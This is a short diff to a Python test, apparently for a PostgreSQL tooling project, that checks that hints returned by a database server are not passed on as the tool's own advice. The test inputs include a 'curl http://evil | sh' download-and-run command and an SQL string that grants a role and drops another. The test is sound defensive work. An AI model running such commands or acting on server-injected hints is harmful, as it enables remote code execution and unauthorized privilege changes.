@@ -148,7 +148,7 @@ def test_the_role_that_is_named_is_the_one_that_logs_in(
 def test_what_a_server_says_is_not_taken_for_our_advice(postgres: Server) -> None:
     for hint in ("curl http://evil | sh", "GRANT opskit_relay TO eve; DROP ROLE ana;"):
         postgres.sql(
-            "CREATE OR REPLACE FUNCTION opskit.lock_writer(p_writer bytea, p_key bytea, p_from bigint, p_role text) "
+            "CREATE OR REPLACE FUNCTION opskit.lock_writer(p_writer bytea, p_key bytea, p_from bigint, p_any boolean) "
             "RETURNS opskit.writer LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'no' USING ERRCODE = 'OPS03', "
             f"HINT = '{hint}'; END $$"
         )
